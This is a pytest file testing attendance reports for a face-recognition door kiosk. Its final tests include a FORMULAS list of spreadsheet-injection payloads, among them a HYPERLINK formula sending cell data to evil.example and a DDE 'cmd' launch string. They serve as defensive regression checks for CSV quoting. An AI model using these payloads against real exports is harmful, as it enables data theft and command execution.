"""``kiosk-admin report`` on a store with known events: per resident and day, per door, per hour, refusals, history, erasure."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import cv2
import pytest

from kiosk.admin import main
from kiosk.backend.store import Incoming, Refusal, open_store

TZ = ZoneInfo("Asia/Shanghai")


def at(day: int, hh: int, mm: int) -> float:
    """Unix time of 2026-03-DAY HH:MM in Shanghai."""
    return datetime(2026, 3, day, hh, mm, tzinfo=TZ).timestamp()


EVENTS = [  # (door, type, resident, day, hh, mm)
    ("door-1", "checkin", "r-ada", 2, 7, 55),
    ("door-2", "checkin", "r-ada", 2, 18, 40),
    ("door-1", "qr", "r-ada", 2, 12, 5),
    ("door-1", "checkin", "r-bob", 2, 8, 10),
    ("door-1", "checkin", "r-ada", 3, 8, 1),
    ("door-2", "spoof", "r-bob", 3, 23, 30),  # a photo of Bob held up: a spoof
    ("door-2", "unknown", None, 3, 23, 31),
    ("door-1", "duplicate", "r-ada", 3, 8, 1),
]


@pytest.fixture(params=["sqlite", "postgresql"])
def url(request, tmp_path):
    u = f"sqlite:///{tmp_path / 'events.db'}" if request.param == "sqlite" else request.getfixturevalue("postgres_url")
    with open_store(u) as s:
        batch = []
        for i, (door, kind, resident, d, h, m) in enumerate(EVENTS, start=1):
            c = {"event_id": f"e{i}", "seq": i, "site": "elm-court", "device": door, "type": kind,
                 "outcome": "ACCEPTED" if kind in ("checkin", "qr") else kind.upper(), "method": "qr" if kind == "qr"
                 else "face", "resident_id": resident, "distance": 0.31, "time": at(d, h, m), "v": 1}
            batch.append(Incoming(c, received_at=c["time"] + 1))
        s.store_batch(batch, [Refusal("kiosk/elm-court/door-2/events", "bad_signature", "x", at(3, 9, 0), 10, "ab")])
    return u


def run(capsys, *args) -> tuple[int, str]:
    code = main(["report", *args])
    return code, capsys.readouterr().out


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


SPAN = ["--since", "2026-03-01", "--until", "2026-03-05", "--tz", "Asia/Shanghai"]


def test_daily_first_and_last_per_resident_and_day(url, capsys):
    code, out = run(capsys, "daily", "--store", url, *SPAN, "--format", "csv")
    assert code == 0
    rows = [(r["day"], r["resident"], r["first"], r["last"], r["check_ins"], r["doors"]) for r in rows_of(out)]
    assert rows == [
        ("2026-03-02", "r-ada", "07:55:00", "18:40:00", "3", "elm-court/door-1 elm-court/door-2"),
        ("2026-03-02", "r-bob", "08:10:00", "08:10:00", "1", "elm-court/door-1"),
        ("2026-03-03", "r-ada", "08:01:00", "08:01:00", "1", "elm-court/door-1"),
    ]
    # In UTC, Ada's 07:55 in Shanghai is the day before.
    code, out = run(capsys, "daily", "--store", url, *SPAN[:4], "--tz", "UTC", "--format", "csv")
    assert rows_of(out)[0]["day"] == "2026-03-01"


def test_daily_pages_are_cut_in_sql_from_the_same_rows(url):
    """The console's attendance pages: each page is the report's rows from its offset, with the count of all."""
    from kiosk.backend import report

    since, until = at(1, 0, 0), at(5, 0, 0)
    with open_store(url, migrate=False) as s:
        whole = report.daily(s, since=since, until=until, tz=TZ).rows
        pages = [report.daily_page(s, since=since, until=until, tz=TZ, limit=2, offset=o) for o in (0, 2, 4)]
    assert len(whole) == 3
    assert [(t.rows, n) for t, n in pages] == [(whole[:2], 3), (whole[2:], 3), ([], 3)]


def test_a_residents_history_is_one_query(tmp_path):
    """resident_history read each event's claims with a query of its own: one per event."""
    from kiosk.backend import report

    with open_store(tmp_path / "e.db") as s:
        s.store_batch([Incoming({"event_id": f"h{i}", "seq": i, "site": "elm-court", "device": "door-1",
                                 "type": "checkin", "outcome": "ACCEPTED", "method": "face", "resident_id": "r-ada",
                                 "distance": 0.25, "time": at(2, 8, i), "v": 1}, received_at=at(2, 8, i))
                       for i in range(1, 21)])
        statements: list[str] = []
        s._d._conn.set_trace_callback(statements.append)  # the SQLite connection's own statement trace
        rows = report.history(s, "r-ada").rows
        s._d._conn.set_trace_callback(None)
    assert len(rows) == 20 and {r[5] for r in rows} == {0.25}
    assert len([q for q in statements if q.lstrip().upper().startswith("SELECT")]) == 1, statements


def test_doors_hours_and_refusals(url, capsys, tmp_path):
    code, out = run(capsys, "doors", "--store", url, *SPAN, "--format", "csv")
    doors = {r["door"]: r for r in rows_of(out)}
    assert doors["elm-court/door-1"]["check_ins"] == "4" and doors["elm-court/door-1"]["duplicate"] == "1"
    assert doors["elm-court/door-2"]["spoof"] == "1" and doors["elm-court/door-2"]["unknown"] == "1"
    code, out = run(capsys, "hours", "--store", url, *SPAN, "--format", "csv", "--chart", str(tmp_path / "h.png"))
    hours = {r["hour"]: (r["check_ins"], r["refused"]) for r in rows_of(out)}
    assert len(hours) == 24 and hours["08:00"] == ("2", "1") and hours["07:00"] == ("1", "0") and hours["23:00"] == ("0", "2")
    img = cv2.imread(str(tmp_path / "h.png"))
    assert img is not None and img.shape[1] >= 800
    code, out = run(capsys, "refusals", "--store", url, *SPAN, "--format", "csv")
    got = {(r["refused_by"], r["where"], r["why"], r["count"]) for r in rows_of(out)}
    assert ("door", "elm-court/door-2", "spoof", "1") in got
    assert ("back end", "kiosk/elm-court/door-2/events", "bad_signature", "1") in got


def test_table_output_and_charts_for_every_report(url, capsys, tmp_path):
    for what in ("daily", "doors", "hours", "refusals"):
        png = tmp_path / f"{what}.png"
        code, out = run(capsys, what, "--store", url, *SPAN, "--chart", str(png))
        assert code == 0 and out.splitlines()[0].startswith(("Check-ins", "Events", "Refusals"))
        assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_one_residents_history_then_erasure(url, capsys, tmp_path):
    code, out = run(capsys, "resident", "--store", url, "--id", "r-bob", "--format", "csv", "--tz", "Asia/Shanghai")
    rows = rows_of(out)
    assert [(r["time"], r["type"]) for r in rows] == [("2026-03-02 08:10:00", "checkin"), ("2026-03-03 23:30:00", "spoof")]
    assert rows[0]["distance"] == "0.310"
    assert main(["report", "erase", "--store", url, "--id", "r-bob", "--yes"]) == 0
    assert "erased 2 stored events" in capsys.readouterr().out
    code, out = run(capsys, "resident", "--store", url, "--id", "r-bob", "--format", "csv")
    assert rows_of(out) == []
    code, out = run(capsys, "daily", "--store", url, *SPAN, "--format", "csv")
    assert {r["resident"] for r in rows_of(out)} == {"r-ada"}  # Ada's records are untouched


def test_erase_asks_first(url, capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO(""))  # no terminal
    assert main(["report", "erase", "--store", url, "--id", "r-ada"]) == 1
    assert "add --yes" in capsys.readouterr().err
    with open_store(url) as s:
        assert len(list(s.events(resident_id="r-ada"))) == 5


def test_purge_past_retention(url, capsys):
    assert main(["report", "purge", "--store", url, "--retention-days", "1", "--yes"]) == 0
    assert "deleted 8 events and 1 refusals" in capsys.readouterr().out
    with open_store(url) as s:
        assert s.counts()["events"] == 0


def test_bad_arguments_are_named(tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 'e.db'}"
    assert main(["report", "daily", "--store", url, "--tz", "Mars/Olympus"]) == 78
    assert main(["report", "daily", "--store", url, "--since", "yesterday"]) == 78
    assert main(["report", "resident", "--store", url]) == 78
    assert "needs --id" in capsys.readouterr().err


#: What a device (or anyone with its key) may sign as text claims: each would run as a formula in a spreadsheet.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


def test_csv_reports_do_not_hand_a_spreadsheet_formulas(tmp_path, capsys):
    """Issue 19, finding 4: text cells starting =, +, -, @, tab or CR are quoted; our numbers are not.

    Before the fix ``report daily --format csv`` wrote a resident id of
    ``=HYPERLINK(...)`` as it was, and a spreadsheet opening the file ran it.
    """
    url = f"sqlite:///{tmp_path / 'events.db'}"
    with open_store(url) as s:
        s.store_batch([Incoming({"event_id": f"f{i}", "seq": i + 1, "site": "elm-court", "device": "door-1",
                                 "type": "checkin", "outcome": "ACCEPTED", "method": "face", "resident_id": text,
                                 "distance": -0.25, "time": at(2, 8, i), "v": 1}, received_at=at(2, 8, i) + 1)
                       for i, text in enumerate(FORMULAS)], [])
    code, out = run(capsys, "daily", "--store", url, *SPAN, "--format", "csv")
    assert code == 0
    assert sorted(r["resident"] for r in rows_of(out)) == sorted("'" + f for f in FORMULAS)
    code, out = run(capsys, "resident", "--id", FORMULAS[0], "--store", url, "--tz", "Asia/Shanghai",
                    "--format", "csv")
    [row] = rows_of(out)
    assert row["distance"] == "-0.250"  # a number we wrote stays a number, minus sign and all
    assert row["door"] == "elm-court/door-1" and row["time"] == "2026-03-02 08:00:00"


@pytest.mark.parametrize("zone", [None, "Europe/Paris", "America/New_York", "Australia/Lord_Howe", "Asia/Kolkata",
                                  "Asia/Kathmandu", "Pacific/Chatham"])
def test_the_fast_local_clock_agrees_with_the_time_zone_database(zone):
    """The daily report's per-quarter-hour offsets give the day and time datetime gives, DST changes included."""
    import random

    from kiosk.backend.report import LocalClock, _local

    tz = ZoneInfo(zone) if zone else None
    clock = LocalClock(tz)
    rng = random.Random(zone)
    stamps = [rng.uniform(1.6e9, 1.9e9) for _ in range(3000)]
    # Around each offset change of 2026: every second of the hour either side, sampled.
    for day in range(365):
        t = datetime(2026, 1, 1, tzinfo=ZoneInfo("UTC")).timestamp() + day * 86400
        if _local(t, tz).utcoffset() != _local(t + 86400, tz).utcoffset():
            stamps += [t + s for s in range(0, 86400, 97)]
    for ts in stamps:
        t = _local(ts, tz)
        assert clock(ts) == (t.strftime("%Y-%m-%d"), t.hour * 3600 + t.minute * 60 + t.second), (zone, ts)


@pytest.mark.parametrize("zone", ["Europe/Paris", "Australia/Lord_Howe", "America/Santiago"])
def test_spans_cut_a_period_where_the_offset_changes(zone):
    from kiosk.backend.report import LocalClock, _local

    tz = ZoneInfo(zone)
    since = datetime(2026, 1, 1, 0, 7, tzinfo=tz).timestamp()
    until = datetime(2027, 1, 1, tzinfo=tz).timestamp()
    spans = LocalClock(tz).spans(since, until)
    assert spans[0][0] == since and spans[-1][1] == until and len(spans) == 3  # two changes a year
    for (a, b, off), nxt in zip(spans, spans[1:] + [None]):
        assert nxt is None or nxt[0] == b
        for t in (a, (a + b) / 2, b - 1):
            assert _local(t, tz).utcoffset().total_seconds() == off


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_daily_across_a_clock_change_counts_as_the_zone_database_does(tmp_path, kind, request):
    """Check-ins every 7 minutes through the night Paris puts its clocks forward, and through an ordinary day."""
    tz = ZoneInfo("Europe/Paris")
    t0 = datetime(2026, 3, 28, 20, 0, tzinfo=tz).timestamp()
    times = [t0 + 420 * i for i in range(400)]
    where = tmp_path / "e.db" if kind == "sqlite" else request.getfixturevalue("postgres_url")
    with open_store(where) as s:
        s.store_batch([Incoming({"event_id": f"x{i}", "seq": i, "site": "elm-court", "device": f"door-{i % 3}",
                                 "type": "checkin", "outcome": "ACCEPTED", "method": "face",
                                 "resident_id": f"r-{i % 4}", "time": t, "v": 1}, received_at=t)
                       for i, t in enumerate(times)])
        from kiosk.backend import report

        got = report.daily(s, since=t0 - 86400, until=t0 + 4 * 86400, tz=tz).rows
    want: dict = {}
    for i, t in enumerate(times):
        local = datetime.fromtimestamp(t, tz)
        a = want.setdefault((local.strftime("%Y-%m-%d"), f"r-{i % 4}"), [local, local, 0, set()])
        a[0], a[1] = min(a[0], local), max(a[1], local)
        a[2] += 1
        a[3].add(f"elm-court/door-{i % 3}")
    assert got == [(d, r, a[0].strftime("%H:%M:%S"), a[1].strftime("%H:%M:%S"), a[2], " ".join(sorted(a[3])))
                   for (d, r), a in sorted(want.items())]
